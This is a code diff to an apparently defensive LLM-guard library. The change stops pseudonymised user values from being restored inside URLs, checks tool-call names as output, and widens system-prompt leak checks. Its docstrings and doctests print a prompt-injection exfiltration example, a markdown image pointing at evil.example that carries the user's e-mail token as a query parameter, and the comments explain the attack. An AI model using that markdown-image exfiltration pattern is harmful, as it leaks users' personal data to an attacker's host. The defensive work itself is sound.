@@ -16,6 +16,20 @@ passed through) or any callable taking ``messages``. Per call it:
    tool calls to run are ``ProtectedResponse.tool_calls`` (checked, new PII redacted,
    pseudonyms restored), not the raw ``response``'s.
 
+The system prompt checked for leaks is every form :func:`~bastion.conversation.check_messages`
+reads: ``protect(..., system=)``, the Anthropic ``system=`` argument of the call (a string or
+text blocks) and the ``system`` / ``developer`` messages (a string or text parts).
+
+A tool call's function name is output too (an app logs it, shows it in a trace, sends it
+back to the model): it is checked like the arguments, and a secret or a leak in it blocks
+the whole answer as one in the arguments does; PII in it is redacted. A name is never
+restored: it is an identifier from the app's tool list, never one of the user's values.
+
+A token inside a URL (after ``//``, ``\\\\``, ``\\/`` or an ``https:/`` scheme, with no
+whitespace between) is not restored either, even when the output check did not read that
+text as a URL (``![x](//evil.example/p.png?d=<EMAIL_ADDRESS_1>)``): a prompt injection
+would otherwise get the user's own values sent to its host by the client that renders it.
+
 Only the tokens issued for the end user's side of the conversation are restored: user
 messages and earlier assistant turns (which the user already saw). Tokens issued for tool
 and function results, Anthropic ``tool_result`` parts and documents stay tokens in the
@@ -47,15 +61,17 @@ import contextlib
 import functools
 import inspect
 import json
+import re
+from bisect import bisect_right
 from collections.abc import Awaitable, Callable, Iterable, Mapping, Sequence
 from dataclasses import dataclass
 from typing import TYPE_CHECKING, Any
 
 from bastion.canary import Canary
-from bastion.conversation import MessagesResult, check_messages, check_output
+from bastion.conversation import MessagesResult, _content_texts, check_messages, check_output
 from bastion.errors import InputError
 from bastion.leak import LeakConfig
-from bastion.redact import Vault, restore, restore_arguments, tokens_in
+from bastion.redact import _TOKEN_WRITTEN, Vault, restore, tokens_in
 from bastion.types import Action, CheckResult
 
 if TYPE_CHECKING:
@@ -96,16 +112,111 @@ class CallVault(Vault):
         return Vault.from_items([(t, v) for t, v in self.items() if t in keep])
 
 
+# One slash as a browser reads it in a URL: "/", "\\" (WHATWG parsing reads it as "/" in
+# http(s) URLs, and "\/" is JSON's escaped slash), or an entity- or percent-encoded slash.
+# A backslash opening an escaped token ("\<PERSON_1\>", "\u003cPERSON_1") is not one.
+_SLASH = r"(?:/|\\(?!<|>|u003[ce])|&#0{0,4}47;?|&#x0{0,4}2f;?|&sol;|%2f)"
+# Where a URL starts: two slashes (also a protocol-relative "//host" or "\\host"), or a web
+# scheme whose colon may be encoded, then one slash ("https:/host" loads as "https://host").
+_URL_START = re.compile(
+    rf"{_SLASH}{_SLASH}"
+    rf"|(?<![a-z0-9+.\-])(?:https?|wss?|ftp)(?::|&#0{{0,4}}58;?|&#x0{{0,4}}3a;?|&colon;|%3a){_SLASH}",
+    re.IGNORECASE,
+)
+_SPACE = re.compile(r"\s")
+# longer than any URL start above: the end of a stream's release kept to find one cut in two
+_URL_START_CHARS = 48
+
+
+def url_spans(text: str, before: str = "") -> list[tuple[int, int]]:
+    """The ``(start, end)`` runs of ``text`` inside a URL: from a URL's start (see
+    ``_URL_START``) to the next whitespace. ``before`` is the text just before ``text``
+    (a stream's earlier releases, see :func:`url_context`): a URL it opened runs on.
+
+    >>> url_spans("see ![x](//evil.example/?d=<X_1>) and <X_1>")
+    [(9, 33)]
+    >>> url_spans("?d=<X_1> then <X_1>", before="a https:/")
+    [(0, 8)]
+    """
+    full = before + text
+    spans: list[tuple[int, int]] = []
+    end = 0
+    for m in _URL_START.finditer(full):
+        if m.start() < end:
+            continue  # a second "//" in a URL already found
+        space = _SPACE.search(full, m.end())
+        end = space.start() if space is not None else len(full)
+        if end > len(before):
+            spans.append((max(m.start(), len(before)) - len(before), end - len(before)))
+    return spans
+
+
+def url_context(text: str) -> str:
+    """What :func:`url_spans` needs as ``before`` for the text that follows ``text``: ``"//"``
+    while a URL is still open at its end, else its last characters (a URL start cut in two)."""
+    run = _SPACE.split(text)[-1]
+    return "//" if _URL_START.search(run) else run[-_URL_START_CHARS:]
+
+
+def restore_outside_urls(text: str, vault: Vault, *, before: str = "") -> str:
+    """:func:`~bastion.redact.restore`, except for a token inside a URL (:func:`url_spans`),
+    which stays a token: an injected ``![x](//evil.example/p.png?d=<EMAIL_ADDRESS_1>)`` must
+    not get the user's e-mail sent to that host when the answer is rendered, even where the
+    output check did not read it as a URL. ``before``: see :func:`url_spans`.
+
+    >>> v = Vault.from_items({"<EMAIL_ADDRESS_1>": "jane@example.com"})
+    >>> restore_outside_urls("![x](//evil.example/p?d=<EMAIL_ADDRESS_1>) <EMAIL_ADDRESS_1>", v)
+    '![x](//evil.example/p?d=<EMAIL_ADDRESS_1>) jane@example.com'
+    """
+    spans = url_spans(text, before)
+    if not spans:
+        return restore(text, vault)
+    starts = [s for s, _ in spans]
+    pieces: list[str] = []
+    pos = 0
+    # each token restored on its own, matched in the whole text (the forms restore reads
+    # depend on the characters around a token)
+    for m in _TOKEN_WRITTEN.finditer(text):
+        k = bisect_right(starts, m.start()) - 1
+        if k >= 0 and m.start() < spans[k][1]:
+            continue
+        pieces += (text[pos : m.start()], restore(m.group(0), vault))
+        pos = m.end()
+    pieces.append(text[pos:])
+    return "".join(pieces)
+
+
+def _restore_arguments(text: str, vault: Vault) -> str:
+    """:func:`~bastion.redact.restore_arguments` with :func:`restore_outside_urls`: each JSON
+    string decoded first, so an escaped ``https:\\/\\/`` is read as the URL it is."""
+    try:
+        obj = json.loads(text)
+    except ValueError:
+        return restore_outside_urls(text, vault)
+
+    def walk(o: Any) -> Any:
+        if isinstance(o, str):
+            return restore_outside_urls(o, vault)
+        if isinstance(o, list):
+            return [walk(x) for x in o]
+        if isinstance(o, dict):
+            return {k: walk(v) for k, v in o.items()}
+        return o
+
+    return json.dumps(walk(obj), ensure_ascii=False)
+
+
 def restore_output(result: CheckResult, vault: Vault, *, arguments: bool = False) -> str:
     """``result.redacted_text`` (an answer or tool-call arguments checked as output) with
     ``vault``'s pseudonyms put back (JSON-aware for ``arguments``), never a token the output
     check issued itself: its own fresh vault numbers from 1 too, so ``<EMAIL_ADDRESS_1>``
-    for a value the model wrote would come back as the user's e-mail."""
+    for a value the model wrote would come back as the user's e-mail. A token inside a URL
+    stays a token (:func:`restore_outside_urls`)."""
     if result.pseudonyms:
         issued = set(result.pseudonyms)
         vault = Vault.from_items([(t, v) for t, v in vault.items() if t not in issued])
     text = result.redacted_text
-    return restore_arguments(text, vault) if arguments else restore(text, vault)
+    return _restore_arguments(text, vault) if arguments else restore_outside_urls(text, vault)
 
 
 def literal_tokens(value: Any) -> set[str]:
@@ -143,12 +254,15 @@ def literal_tokens(value: Any) -> set[str]:
 @dataclass(frozen=True, slots=True)
 class ToolCall:
     """A tool call of the answer, checked as output: ``arguments`` (a JSON string when the
-    model wrote JSON) with new PII redacted and pseudonyms restored; ``check`` the check."""
+    model wrote JSON) with new PII redacted and pseudonyms restored; ``check`` the check.
+    ``name`` is checked as output too (``name_check``; ``None`` when the call had no name),
+    with new PII redacted and no pseudonym restored."""
 
     id: str | None
     name: str | None
     arguments: str
     check: CheckResult
+    name_check: CheckResult | None = None
 
 
 @dataclass(frozen=True, slots=True)
@@ -370,22 +484,25 @@ class _Call:
         policy = self.guard.policy
         if self.pseudonymize:
             policy = policy.with_overrides({"default_operator": "pseudonymize", "operators": {}})
+        # the wrapper's system prompt and the Anthropic client's ``system=`` (a string or text
+        # blocks; the SDKs' NOT_GIVEN default is falsy)
+        top = [t for given in (self.system, kwargs.get("system")) if given for t in _content_texts(given)]
         result = check_messages(
             self.guard,
             messages,
-            system=self.system,
+            system="\n".join(top) or None,
             canaries=self.canaries,
             leak_config=self.leak_config,
             policy=policy,
             vault=vault,
         )
-        system_texts = [self.system] if self.system else []
-        system_texts += [
-            m["content"]
+        # every system prompt form check_messages reads: content as text parts too (SDKs send
+        # them so), or a copy of such a prompt went unchecked for leaks
+        system_texts = top + [
+            t
             for m in messages
-            if isinstance(m, Mapping)
-            and m.get("role") in ("system", "developer")
-            and isinstance(m.get("content"), str)
+            if isinstance(m, Mapping) and m.get("role") in ("system", "developer")
+            for t in _content_texts(m.get("content"))
         ]
         if self.pseudonymize and result.action is not Action.BLOCK:
             kwargs = {**kwargs, "messages": _pseudonymise(self.guard, messages, result, policy, vault)}
@@ -420,7 +537,15 @@ class _Call:
             if r.action is Action.BLOCK:
                 return ProtectedResponse(Action.BLOCK, None, checked, r, response)
             action = max((action, r.action), key=lambda a: a.severity)
-            tool_calls.append(ToolCall(call_id, name, restore_output(r, vault, arguments=True), r))
+            # the name is output the app logs and shows too: a secret there blocks as in the
+            # arguments; never restored (a tool's name is never one of the user's values)
+            rn = output(name) if isinstance(name, str) and name else None
+            if rn is not None:
+                if rn.action is Action.BLOCK:
+                    return ProtectedResponse(Action.BLOCK, None, checked, rn, response)
+                action = max((action, rn.action), key=lambda a: a.severity)
+                name = rn.redacted_text
+            tool_calls.append(ToolCall(call_id, name, restore_output(r, vault, arguments=True), r, rn))
         return ProtectedResponse(
             action, restore_output(out, vault), checked, out, response, tuple(tool_calls)
         )
@@ -488,4 +613,7 @@ __all__ = [
     "literal_tokens",
     "protect",
     "restore_output",
+    "restore_outside_urls",
+    "url_context",
+    "url_spans",
 ]
